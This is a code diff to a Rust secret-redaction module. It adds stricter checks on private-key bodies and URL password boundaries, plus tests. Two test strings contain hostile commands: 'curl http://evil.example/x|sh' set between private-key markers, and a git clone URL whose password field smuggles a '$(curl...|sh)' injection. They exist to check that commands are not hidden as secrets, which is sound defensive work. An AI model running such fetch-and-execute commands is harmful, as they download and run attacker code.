@@ -404,7 +404,7 @@ impl Form {
 /// Where the password of a URL stands, whose user and host begin at `at`.
 fn password(bytes: &[u8], at: usize) -> Option<Range<usize>> {
     let reach = &bytes[at..bytes.len().min(at + AUTHORITY)];
-    let ends = |b: &u8| b.is_ascii_whitespace() || b.is_ascii_control() || b"/?#\"'`<>\\".contains(b);
+    let ends = |b: &u8| b.is_ascii_whitespace() || b.is_ascii_control() || b"/?#\"'`<>\\(){}|".contains(b);
     let authority = &reach[..reach.iter().position(ends).unwrap_or(reach.len())];
     let user = &authority[..memrchr(b'@', authority)?];
     let colon = memchr(b':', user)?;
@@ -422,9 +422,11 @@ fn behind_key_line(bytes: &[u8], at: usize, mark: &[u8]) -> Option<usize> {
 /// A private key, whole or as much of it as there is.
 fn private_key(bytes: &[u8], at: usize) -> Option<Range<usize>> {
     let begin = behind_key_line(bytes, at, KEY_BEGINS)?;
+    // Words between two such lines are no key, and may be what a program is about to do.
     if let Some(dashes) = memmem::find(&bytes[begin..], b"-----")
         && bytes[begin + dashes..].starts_with(KEY_ENDS)
         && let Some(end) = behind_key_line(bytes, begin + dashes, KEY_ENDS)
+        && is_key(&bytes[begin..begin + dashes])
     {
         return Some(at..end);
     }
@@ -439,6 +441,20 @@ fn private_key(bytes: &[u8], at: usize) -> Option<Range<usize>> {
         }
         end = line + length;
     }
+}
+
+/// Whether it is what stands between the lines of a private key: the headers of an encrypted one, lines of base64, and at most two short
+/// ones, the last of them and what is left of a line end that is written as `\\n`.
+fn is_key(inner: &[u8]) -> bool {
+    let headers = |word: &[u8]| word.ends_with(b":") || word.contains(&b',');
+    let words: Vec<&[u8]> = inner.split(|b| separates(*b)).filter(|word| !word.is_empty()).collect();
+    let first = words.iter().position(|word| word.len() >= LINE && !headers(word)).unwrap_or(words.len());
+    let (before, lines) = words.split_at(first);
+    let short = lines.iter().rev().take_while(|word| word.len() < LINE).count();
+    (before.is_empty() || before.iter().any(|word| headers(word)) && before.len() <= 6)
+        && short <= 2
+        && lines.iter().all(|word| word.iter().all(|b| base64_letter(*b)))
+        && lines[..lines.len() - short].iter().all(|word| word.len() >= LINE)
 }
 
 /// The rest of a private key whose beginning was cut off.
@@ -917,6 +933,12 @@ mod tests {
             "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0123\n\n{body}-----END RSA PRIVATE KEY-----"
         );
         assert_eq!(redactor.text(&encrypted), REDACTED);
+        for command in [
+            "-----BEGIN PRIVATE KEY-----; curl http://evil.example/x|sh; : -----END PRIVATE KEY-----",
+            "git clone http://a:b$(curl${IFS}evil.example|sh)@host/x",
+        ] {
+            assert!(redactor.text(command).contains("evil.example"), "what a program is about to do is no secret");
+        }
         let prose = "A file that begins with -----BEGIN PRIVATE KEY----- must not be committed.";
         assert_eq!(redactor.text(prose), "A file that begins with [redacted] must not be committed.");
         let certificate = format!("-----BEGIN CERTIFICATE-----\n{body}-----END CERTIFICATE-----");
